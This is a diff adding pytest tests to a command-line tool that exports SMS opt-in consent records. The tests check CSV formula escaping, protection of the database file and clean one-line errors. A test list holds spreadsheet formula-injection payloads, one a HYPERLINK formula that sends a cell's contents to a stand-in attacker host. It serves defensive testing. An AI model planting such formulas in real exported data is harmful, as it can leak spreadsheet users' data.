@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import dataclasses
 import hashlib
 import io
 import json
@@ -19,6 +20,7 @@ from collections.abc import Mapping, Sequence
 from concurrent.futures import ThreadPoolExecutor
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
+from typing import Any
 
 import httpx
 import pytest
@@ -446,7 +448,119 @@ def test_an_empty_csv_export_still_has_its_header(tmp_path: Path, monkeypatch: p
 
     monkeypatch.chdir(tmp_path)
     monkeypatch.setenv("OPTIN_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path}/empty.db")
+    assert main(["migrate"]) == 0
+    capsys.readouterr()
     assert main(["export", "--since", "2030-01-01"]) == 0
     header = capsys.readouterr().out.splitlines()
     assert header[0].startswith("id,created_at,campaign,phone,") and header[0].endswith(",history")
     assert len(header) == 1
+
+
+# -- what an attacker can put in a record, and what an operator can get wrong -----------
+
+
+def one_line_failure(result: subprocess.CompletedProcess[str]) -> str:
+    """The one line `optin` wrote for an expected failure (exit 2, nothing on stdout)."""
+    assert result.returncode == 2, f"exit {result.returncode}; stderr:\n{result.stderr}"
+    assert "Traceback" not in result.stderr, result.stderr
+    assert result.stdout == ""
+    lines = result.stderr.splitlines()
+    assert len(lines) == 1 and lines[0].startswith("optin"), result.stderr
+    return lines[0]
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+
+
+def test_csv_export_keeps_formulas_from_running_and_jsonl_keeps_them_as_sent(tmp_path: Path) -> None:
+    url = sqlite_url(tmp_path / "optin.db")
+
+    async def run() -> None:
+        engine = create_engine(url)
+        try:
+            await migrate(engine)
+            outbox = Outbox(engine, policy=RetryPolicy(), lease=timedelta(seconds=60))
+            await outbox.remember_disclosures([DISCLOSURE])
+            for n, agent in enumerate([*FORMULAS, "Mozilla/5.0 =not first"]):
+                phone = f"1201555{3000 + n}"
+                record = dataclasses.replace(consent(phone), user_agent=agent)
+                await outbox.add(record, OptIn(phone=phone, group_ids=(4,)))
+        finally:
+            await engine.dispose()
+
+    asyncio.run(run())
+    ok(optin("export", "--output", "out.csv", database_url=url, cwd=tmp_path))
+    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as written:  # "\r" kept as written
+        rows = list(csv.DictReader(written))
+    # OWASP's advice: a leading single quote, so a spreadsheet shows the text as text.
+    assert [row["user_agent"] for row in rows] == [*("'" + agent for agent in FORMULAS), "Mozilla/5.0 =not first"]
+    # Everything else as before: numbers, times and JSON cells do not start so.
+    assert rows[0]["phone"] == "12015553000" and rows[0]["source"] == '{"src": "receipt"}'
+    records = [json.loads(line) for line in ok(optin("export", "--format", "jsonl", database_url=url, cwd=tmp_path)).splitlines()]
+    assert [record["user_agent"] for record in records] == [*FORMULAS, "Mozilla/5.0 =not first"]
+
+
+def test_export_to_a_file_never_harms_the_database_or_the_old_file(tmp_path: Path) -> None:
+    database = tmp_path / "optin.db"
+    url = sqlite_url(database)
+    add_signups(url, [("12015554001", "JOIN", None), ("12015554002", "JOIN", None)])
+    ok(optin("status", database_url=url, cwd=tmp_path))  # opened as the service opens it: -wal, -shm
+    before = database.read_bytes()
+
+    # Pointed at the database (any way of naming it), its -wal or -shm: refused, untouched.
+    (tmp_path / "link.db").symlink_to(database)
+    for target in ("optin.db", str(database), "./link.db", "optin.db-wal", "optin.db-shm"):
+        line = one_line_failure(optin("export", "--output", target, database_url=url, cwd=tmp_path))
+        assert "is the database itself" in line
+    assert database.read_bytes() == before
+    assert counts(url) == {("JOIN", "pending"): 2}
+
+    # A failed export leaves the old file as it was, and nothing half-written beside it.
+    old = tmp_path / "export.csv"
+    old.write_text("last month's export\n", encoding="utf-8")
+    one_line_failure(optin("export", "--since", "2020-01-01", "--output", str(old), database_url=sqlite_url(tmp_path / "typo.db"), cwd=tmp_path))
+    assert old.read_text(encoding="utf-8") == "last month's export\n"
+
+    # A good one replaces it whole.
+    result = optin("export", "--output", str(old), database_url=url, cwd=tmp_path)
+    assert ok(result) == "" and "exported 2 consent record(s)" in result.stderr
+    with old.open(encoding="utf-8", newline="") as written:
+        assert [row["phone"] for row in csv.DictReader(written)] == ["12015554001", "12015554002"]
+    assert sorted(path.name for path in tmp_path.iterdir() if "export" in path.name) == ["export.csv"]
+
+
+def _postgres(**parts: str) -> str:
+    from sqlalchemy.engine import make_url
+
+    from tests._databases import POSTGRES
+
+    return make_url(POSTGRES).set(drivername="postgresql+asyncpg", password="pw-SECRET-77", **parts).render_as_string(hide_password=False)
+
+
+# (what went wrong, the command, its database (None: a good SQLite file), what the line says)
+FAILURES: list[tuple[str, list[str], Any, str]] = [
+    ("no such postgres database", ["status"], lambda tmp: _postgres(database="optin_no_such_db"), 'database "optin_no_such_db" does not exist'),
+    ("no such postgres role", ["export"], lambda tmp: _postgres(username="optin_no_such_role"), 'role "optin_no_such_role" does not exist'),
+    ("no sqlite file", ["status"], lambda tmp: sqlite_url(tmp / "typo.db"), "no database at"),
+    ("no sqlite file to export", ["export"], lambda tmp: sqlite_url(tmp / "typo.db"), "optin migrate"),
+    ("no sqlite file to retry", ["retry-failed"], lambda tmp: sqlite_url(tmp / "typo.db"), "no database at"),
+    ("read-only sqlite", ["status"], lambda tmp: f"sqlite+aiosqlite:///file:{tmp / 'ro.db'}?mode=ro&uri=true", "readonly database"),
+    ("read-only sqlite migrate", ["migrate"], lambda tmp: f"sqlite+aiosqlite:///file:{tmp / 'ro.db'}?mode=ro&uri=true", "readonly database"),
+    ("unwritable output", ["export", "--output", "no/such/dir/out.csv"], None, "cannot write no/such/dir/out.csv"),
+    ("a directory as output", ["export", "--output", "."], None, "is a directory"),
+    ("after year 9999 in UTC", ["export", "--since", "9999-12-31T23:59:59-05:00"], None, "out of range"),
+    ("before year 1 in UTC", ["export", "--until", "0001-01-01T00:30:00+01:00"], None, "out of range"),
+    ("year 0", ["export", "--since", "0000-01-01"], None, "is not a date"),
+]
+
+
+@pytest.mark.parametrize(("case", "args", "url", "expected"), FAILURES, ids=[f[0] for f in FAILURES])
+def test_an_expected_failure_exits_2_with_one_line(tmp_path: Path, case: str, args: list[str], url: Any, expected: str) -> None:
+    (tmp_path / "ro.db").touch()  # an empty database, which a read-only open cannot migrate
+    if url is None:
+        url = sqlite_url(tmp_path / "optin.db")
+        ok(optin("migrate", database_url=url, cwd=tmp_path))
+    line = one_line_failure(optin(*args, database_url=url(tmp_path) if callable(url) else url, cwd=tmp_path))
+    assert expected in line
+    assert "pw-SECRET-77" not in line
+    assert not (tmp_path / "typo.db").exists()
